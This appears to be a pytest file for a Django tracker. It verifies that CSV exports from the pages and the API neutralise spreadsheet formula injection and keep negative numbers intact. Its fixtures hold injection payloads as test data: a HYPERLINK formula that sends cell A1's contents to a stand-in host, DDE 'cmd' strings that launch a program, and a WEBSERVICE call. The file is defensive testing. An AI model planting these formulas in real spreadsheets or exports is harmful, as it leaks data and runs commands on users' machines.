"""CSV exports neutralise cells a spreadsheet would run as formulas (pages and API alike),
and leave numbers, negative ones included, as numbers."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from tracker.leagues.models import Player
from tracker.tournaments.models import Tournament
from web.presenters.stats import csv_cell, csv_text

NASTY = {
    0: '=HYPERLINK("http://x.example/?"&A1,"click")',
    1: "+cmd|' /C calc'!A0",
    2: "@SUM(1+1)*cmd|' /C calc'!A0",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "\tTabbed",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Rob", "Rob"),
        ("-12", "-12"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("1e3", "1e3"),
        (-7, -7),
        (-2.5, -2.5),
        (None, ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_text_neutralises_headers_and_cells():
    text = csv_text([{"=name": "=evil", "net": -40}])
    assert text.splitlines() == ["'=name,net", "'=evil,-40"]


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_every_export_neutralises_player_names(world, client):
    for index, name in NASTY.items():
        Player.objects.filter(pk=world.players[index].pk).update(name=name)
    Tournament.objects.filter(league=world.league).update(name="=WEBSERVICE(1)")
    slug, p, t = world.league.slug, world.players[0].pk, world.tournaments[0].pk
    pages = [
        f"/leagues/{slug}/table.csv",
        f"/leagues/{slug}/stats.csv",
        f"/players/{p}/stats.csv",
        f"/players/{p}/hands.csv",
        f"/tournaments/{t}/stats.csv",
        f"/tournaments/{t}/hands.csv",
    ]
    api = [
        f"/api/v1/analytics/leagues/{slug}/standings/?format=csv",
        f"/api/v1/analytics/leagues/{slug}/stats/?format=csv",
        f"/api/v1/analytics/players/{p}/stats/?format=csv",
        f"/api/v1/analytics/players/{p}/hands/?format=csv",
        f"/api/v1/analytics/tournaments/{t}/stats/?format=csv",
        f"/api/v1/analytics/tournaments/{t}/hands/?format=csv",
    ]
    negatives = 0
    for url in pages + api:
        response = (client if url in pages else APIClient()).get(url)
        assert response.status_code == 200, url
        text = response.content.decode()
        for row in _rows(text):
            for value in row.values():
                if not value:
                    continue
                # Nothing a spreadsheet would run: a risky first character only in a number.
                if value[0] in "=+-@\t\r":
                    float(value)  # a plain number, e.g. a negative net
                    negatives += value.startswith("-")
        assert (
            "'=HYPERLINK" in text
            or "'+cmd" in text
            or "'@SUM" in text
            or "'-2+3" in text
            or "'=WEBSERVICE" in text
        ), url
    assert negatives > 0  # negative numbers are still there, as numbers
